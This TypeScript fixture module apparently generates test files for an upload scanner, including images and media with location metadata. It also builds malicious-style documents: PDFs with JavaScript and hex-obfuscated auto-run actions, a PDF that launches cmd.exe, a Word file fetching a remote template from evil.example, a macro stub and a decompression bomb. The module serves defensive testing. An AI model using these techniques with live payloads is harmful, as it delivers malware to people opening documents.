import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { zip, type Packed } from './archives.ts'

/** A picture with where, when and with what it was taken, and a word of somebody. */
const PLACE = '48/1 12/1 30/1'
export async function pictureWithPlace(format: 'jpeg' | 'png' | 'webp' = 'jpeg', side = 64): Promise<Buffer> {
  const dots = Buffer.from(Array.from({ length: side * side * 3 }, (_, place) => (place * 37) % 256))
  return sharp(dots, { raw: { width: side, height: side, channels: 3 } })
    .withExif({
      IFD0: {
        Make: 'PhoneOfLena',
        Copyright: 'Lena Example',
        Software: 'PhoneOfLena',
        ImageDescription: 'At home',
      },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: PLACE, GPSLongitudeRef: 'E', GPSLongitude: '16/1 22/1 0/1' },
    })
    .toFormat(format)
    .toBuffer()
}

export const noise = (side: number, format: 'png' | 'gif' | 'avif' | 'tiff') =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#3366aa' } })
    .toFormat(format)
    .toBuffer()

/** A PDF with these objects; streams as they are given. */
function pdf(objects: readonly string[], trailer = ''): Buffer {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, place) => {
    const at = text.length
    text += `${place + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const from = text.length
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${from}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

const PAGE = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
  '<< /Length 44 >>\nstream\nBT /F1 12 Tf 20 100 Td (No benefit for you) Tj ET\nendstream',
]
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>'

/** A PDF that a screen reader reads: marked content, structure and a language. */
export const taggedPdf = () =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R /Lang (en) /MarkInfo << /Marked true >> /StructTreeRoot 5 0 R >>',
    PAGE[0]!,
    PAGE[1]!,
    '<< /Length 70 >>\nstream\n/H1 << /MCID 0 >> BDC BT /F1 12 Tf 20 100 Td (JS /JavaScript) Tj ET EMC\nendstream',
    '<< /Type /StructTreeRoot /K [6 0 R] >>',
    '<< /Type /StructElem /S /H1 /P 5 0 R /Pg 3 0 R /K 0 >>',
  ])
/** A PDF with one more object. */
export const pdfWith = (object: string) => pdf([CATALOG, ...PAGE, object])
export const plainPdf = () => pdf([CATALOG, ...PAGE])
export const scriptedPdf = () =>
  pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>', ...PAGE])
/** The same with letters of names written by their numbers. */
export const disguisedPdf = () =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /#4aS (app.alert\\(1\\)) >> >>',
    ...PAGE,
  ])
/** The same in a packed object. */
export function packedPdf(): Buffer {
  const packed = deflateSync(Buffer.from('7 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>')).toString(
    'latin1',
  )
  return pdf([
    CATALOG,
    ...PAGE,
    `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`,
  ])
}
export const lockedPdf = () => pdf([CATALOG, ...PAGE], '/Encrypt 9 0 R')
export const pdfWithFile = () =>
  pdf(['<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> >>', ...PAGE])
export const launchingPdf = () =>
  pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>', ...PAGE])

const TYPES = (of: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${of}"/></Types>`
const PLAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const word = (...more: Parameters<typeof zip>[0]) =>
  zip([
    { name: '[Content_Types].xml', content: TYPES(PLAIN) },
    { name: '_rels/.rels', content: '<Relationships/>' },
    { name: 'word/document.xml', content: '<w:document><w:t>What it told me</w:t></w:document>' },
    ...more,
  ])
export const document_ = () => word({ name: 'docProps/core.xml', content: '<dc:creator>Lena</dc:creator>' })
/** A document one of whose parts is said to be something else at its place than in the directory. */
export const documentWith = (how: Pick<Packed, 'sizes' | 'nameThere'>) =>
  word({ name: 'docProps/app.xml', content: '<Properties/>', ...how })
export const documentWithMacros = () => word({ name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' })
export const documentThatFetches = () =>
  word({
    name: 'word/_rels/settings.xml.rels',
    content:
      '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
  })
export const documentWithFiles = () =>
  word({ name: 'word/embeddings/sheet1.xlsx', content: zip([{ name: 'a', content: 'b' }]) })
export const documentWithPassword = () =>
  zip([
    { name: '[Content_Types].xml', content: TYPES(PLAIN), flags: 1 },
    { name: 'word/document.xml', content: 'x', flags: 1 },
  ])
export const documentBomb = () => word({ name: 'word/media/bomb.xml', content: Buffer.alloc(40_000_000) })
export const documentThatLies = () => word({ name: 'word/media/a.xml', content: 'many letters', size: 3 })
export const openText = () =>
  zip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
    { name: 'content.xml', content: '<office:text>What it told me</office:text>' },
  ])
export const openTextWithMacro = () =>
  zip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
    { name: 'Basic/Standard/Module1.xml', content: '<script:module/>' },
  ])
export const archive = () => zip([{ name: 'photo.jpg', content: 'not one' }])
export const archiveInArchive = () => zip([{ name: 'inner.zip', content: archive() }])

/** A box of a film. */
function box(name: string, ...content: readonly (Buffer | string)[]): Buffer {
  const body = Buffer.concat(content.map((each) => (typeof each === 'string' ? Buffer.from(each) : each)))
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.write(name, 4, 'latin1')
  return Buffer.concat([head, body])
}

/** A film that says where it was taken. */
export function filmWithPlace(data = Buffer.alloc(5000, 7)): Buffer {
  return Buffer.concat([
    box('ftyp', 'isom', Buffer.alloc(4), 'isommp42'),
    box(
      'moov',
      box('mvhd', Buffer.alloc(4), Buffer.from('WHENMADE'), Buffer.alloc(88)),
      box('trak', box('tkhd', Buffer.alloc(84)), box('udta', box('name', 'Lena'))),
      box('udta', box('\u00a9xyz', '+48.2085+016.3721/')),
    ),
    box('mdat', data),
  ])
}

/** Boxes as a browser or a phone records them: of a voice alone, or with pictures. */
export const boxesWith = (...handlers: readonly ('soun' | 'vide')[]) =>
  Buffer.concat([
    box('ftyp', 'isom', Buffer.alloc(4), 'isommp42'),
    box(
      'moov',
      ...handlers.map((of) => box('trak', box('mdia', box('hdlr', Buffer.alloc(8), of, Buffer.alloc(13))))),
    ),
    box('mdat', Buffer.alloc(3000, 7)),
  ])

/** The beginning of a WebM with these tracks, and what is heard or seen. */
export const webmWith = (...codecs: readonly string[]) =>
  Buffer.concat([
    Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x87, 0x42, 0x82, 0x84]),
    Buffer.from('webm'),
    ...codecs.flatMap((codec) => [Buffer.from([0x86, 0x80 + codec.length]), Buffer.from(codec)]),
    Buffer.alloc(3000, 7),
  ])

/** A film whose box says that it reaches beyond the file. */
export const brokenFilm = () => filmWithPlace().subarray(0, 900)

/** A sound with tags at its beginning and end. */
export function soundWithTags(): Buffer {
  const tag = Buffer.from('TIT2\0\0\0\x11\0\0\0At home with Lena')
  const head = Buffer.from('ID3\x04\0\0\0\0\0\0', 'latin1')
  head[9] = tag.length
  const frames = Buffer.concat(
    Array.from({ length: 8 }, () => {
      const frame = Buffer.alloc(417)
      Buffer.from([0xff, 0xfb, 0x90, 0x00]).copy(frame)
      return frame
    }),
  )
  return Buffer.concat([head, tag, frames, Buffer.from('TAG' + 'Lena'.padEnd(125, ' '))])
}

/** Frames of AAC as a phone records them (ADTS). */
export function aacFrames(): Buffer {
  const frame = Buffer.alloc(200, 3)
  Buffer.from([0xff, 0xf1, 0x50, 0x80, 200 >> 3, ((200 & 7) << 5) | 0x1f, 0xfc]).copy(frame)
  return Buffer.concat(Array.from({ length: 20 }, () => frame))
}

/** The same with tags before, between and behind. */
export function aacWithTags(): Buffer {
  const tag = Buffer.from('ID3\x04\0\0\0\0\0\x1cTIT2\0\0\0\x11\0\0\0At home with Lena', 'latin1')
  const frames = aacFrames()
  const last = Buffer.from('TAG' + 'Lena'.padEnd(125, ' '))
  return Buffer.concat([tag, frames.subarray(0, 1000), tag, frames.subarray(1000), last])
}

/** A voice as many phones record it (AMR), for narrow or for wide sound. */
export function amr(of: 'narrow' | 'wide' = 'narrow'): Buffer {
  const [head, number, length] = of === 'narrow' ? ['#!AMR\n', 7, 32] : ['#!AMR-WB\n', 8, 61]
  const frame = Buffer.alloc(length, 0x5a)
  frame[0] = (number << 3) | 4
  // Silence is one byte long.
  const silence = Buffer.from([(15 << 3) | 4])
  return Buffer.concat([Buffer.from(head), ...Array.from({ length: 20 }, () => [frame, silence]).flat()])
}

/** A sound of chunks with words about it. */
export function soundWithNotes(): Buffer {
  const chunk = (name: string, body: Buffer) => {
    const head = Buffer.alloc(8)
    head.write(name, 0, 'latin1')
    head.writeUInt32LE(body.length, 4)
    return Buffer.concat([head, body])
  }
  const format = Buffer.alloc(16)
  format.writeUInt16LE(1, 0)
  format.writeUInt16LE(1, 2)
  format.writeUInt32LE(8000, 4)
  format.writeUInt32LE(16_000, 8)
  format.writeUInt16LE(2, 12)
  format.writeUInt16LE(16, 14)
  const body = Buffer.concat([
    Buffer.from('WAVE'),
    chunk('fmt ', format),
    chunk('LIST', Buffer.from('INFOIARTLena....')),
    chunk('data', Buffer.alloc(4000, 3)),
  ])
  const head = Buffer.alloc(8)
  head.write('RIFF', 0, 'latin1')
  head.writeUInt32LE(body.length, 4)
  return Buffer.concat([head, body])
}
